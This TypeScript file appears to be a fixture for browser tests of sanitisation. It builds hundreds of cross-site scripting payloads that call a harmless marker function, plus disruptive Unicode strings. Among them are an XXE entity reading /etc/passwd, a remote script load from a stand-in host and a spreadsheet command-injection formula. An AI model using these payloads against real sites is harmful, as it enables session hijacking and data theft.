/** What a script would call if a payload ran: the browser tests look for it. */
export const scriptCall = 'kenteHit()'

const runs = [scriptCall, `window['kenteHit']()`, `top.kenteHit\`\``, `self[atob('a2VudGVIaXQ=')]()`]
const tags = ['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'marquee', 'iframe', 'math', 'a', 'p', 'object', 'button']
const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus tabindex=1',
  'ontoggle open',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'onstart',
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java&#10;script:',
  'javascript&colon;',
  '&#x6A;avascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'feed:javascript:',
  'jar:javascript:',
  'view-source:javascript:',
]
const closers = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  ']]>',
  '<!--',
  '\\"',
  '&quot;>',
  '</li></ol>',
  '<a\u0020',
]

/** Elements with a handler, in every quoting; the src makes the load fail. */
const elements = tags.flatMap((tag, at) =>
  [0, 3, 5].map((step) => {
    const handler = handlers[(at + step) % handlers.length] ?? 'onerror'
    const [name, ...rest] = handler.split(' ')
    return `<${tag} src=x ${rest.join(' ')} ${name}=${runs[(at + step) % runs.length]}>`
  }),
)
const escapes = closers.flatMap((closer, at) => [
  `${closer}<script>${runs[at % runs.length]}</script>`,
  `${closer}<img src=x onerror="${scriptCall}">`,
  `${closer} onmouseover=${scriptCall} x=`,
  `${closer}<svg/onload=${scriptCall}>`,
])
const links = schemes.flatMap((scheme) => [
  `[press](${scheme}${scriptCall})`,
  `![picture](${scheme}${scriptCall})`,
  `<${scheme}${scriptCall}>`,
  `<a href="${scheme}${scriptCall}">press</a>`,
  `[press]: ${scheme}${scriptCall}\n\n[press]`,
])
const markdown = [
  `[x](https://kente.example" onmouseover="${scriptCall})`,
  `[x](<https://kente.example/"><img src=x onerror=${scriptCall}>>)`,
  `[x](https://kente.example 'title" onfocus=${scriptCall} autofocus "')`,
  `![x" onerror="${scriptCall}](x)`,
  `\`\`\`html" onload="${scriptCall}\n<script>${scriptCall}</script>\n\`\`\``,
  `| a |\n| :-: |\n| <img src=x onerror=${scriptCall}> |`,
  `- [x] <img src=x onerror=${scriptCall}>`,
  `[^1]\n\n[^1]: <img src=x onerror=${scriptCall}>`,
  `# <svg onload=${scriptCall}>`,
  `<https://kente.example/" onclick="${scriptCall}>`,
  `www.kente.example/"onclick=${scriptCall}`,
  `@<img src=x onerror=${scriptCall}>`,
  `&lt;script&gt;${scriptCall}&lt;/script&gt;`,
  `&#60;img src=x onerror=${scriptCall}&#62;`,
  `<div style="background:url(javascript:${scriptCall})">x</div>`,
  `<style>@import 'javascript:${scriptCall}';*{background:url(x)}</style>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${scriptCall}">`,
  `<base href="https://elsewhere.example/">`,
  `<form action="https://elsewhere.example/"><button>send</button></form>`,
  `<template><script>${scriptCall}</script></template>`,
  `<iframe srcdoc="<script>parent.${scriptCall}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${scriptCall}>`,
  `<svg><style><img src=x onerror=${scriptCall}></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${scriptCall}>">`,
  `<svg><animate onbegin=${scriptCall} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${scriptCall}>#x">`,
  `<svg><foreignObject><script>${scriptCall}</script></foreignObject></svg>`,
  `<img srcset="x 1x" onerror=${scriptCall}>`,
  `<object data="javascript:${scriptCall}">`,
  `<embed src="javascript:${scriptCall}">`,
  `<isindex action=javascript:${scriptCall} type=image>`,
  `<bdo dir=rtl>turned</bdo>`,
  `{{constructor.constructor('${scriptCall}')()}}`,
  `\${${scriptCall}}`,
  `<%= ${scriptCall} %>`,
  `#{${scriptCall}}`,
  `__proto__[innerHTML]=<img src=x onerror=${scriptCall}>`,
  `';${scriptCall};//`,
  `";${scriptCall};//`,
  `\\u003cscript\\u003e${scriptCall}\\u003c/script\\u003e`,
  `\u2028${scriptCall}//`,
  `=HYPERLINK("https://elsewhere.example","press")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `%3Cscript%3E${scriptCall}%3C/script%3E`,
  `+ADw-script+AD4-${scriptCall}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${scriptCall}\uff1c/script\uff1e`,
  `<scr<script>ipt>${scriptCall}</scr</script>ipt>`,
  `<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>`,
  `<\u200bscript>${scriptCall}</script>`,
  `<img/src=x/onerror=${scriptCall}>`,
  `<img\nsrc=x\nonerror\n=\n${scriptCall}>`,
  `<img src=x onerror\u000c=${scriptCall}>`,
  `<!--><img src=x onerror=${scriptCall}>-->`,
  `<![CDATA[<img src=x onerror=${scriptCall}>]]>`,
  `<?xml version="1.0"?><x onload=${scriptCall}/>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<x onclick=${scriptCall} style=position:fixed;inset:0>`,
  `<dialog open><button autofocus onfocus=${scriptCall}>x</button></dialog>`,
  `<input type=image src=x onerror=${scriptCall}>`,
  `<select><option><img src=x onerror=${scriptCall}></select>`,
  `<portal src="javascript:${scriptCall}">`,
  `<a id=defaultView name=kenteHit href=x>clobber</a>`,
  `<form id=body><input name=innerHTML></form>`,
  `<img name=getElementById src=x>`,
]

/** Three hundred and more texts that would run, load, turn or cover something where a page took them for more than text. */
export const scriptPayloads: readonly string[] = [
  ...new Set([...elements, ...escapes, ...links, ...markdown, ...handlers.flatMap(byHandler), ...runs.flatMap(byRun)]),
]

function byHandler(handler: string): readonly string[] {
  const [name, ...rest] = handler.split(' ')
  return [
    `" ${rest.join(' ')} ${name}="${scriptCall}`,
    `' ${rest.join(' ')} ${name}='${scriptCall}`,
    `<details ${rest.join(' ')} ${name}=${scriptCall}>`,
    `<style ${name}=${scriptCall}></style>`,
  ]
}

function byRun(run: string): readonly string[] {
  return [
    `<script>${run}</script>`,
    `<script type=module>${run}</script>`,
    `<script nonce="">${run}</script>`,
    `<svg><script>${run}</script></svg>`,
    `<script\u0020x>${run}</script\u0020x>`,
    `javascript:${run}`,
    `<img src=x onerror='${run}'>`,
    `<body onload='${run}'>`,
  ]
}

/** Marks without end over a letter, directions that turn what stands beside them, and what shows nothing. */
export const disturbingTexts = {
  zalgo: `Z${'\u0300\u0316\u0489\u0334'.repeat(40)}algo`,
  override: 'abc\u202edef\u202c',
  isolate: 'abc\u2066def',
  escape: 'abc\u001b[31mdef',
  secondControls: 'abc\u009bdef',
} as const
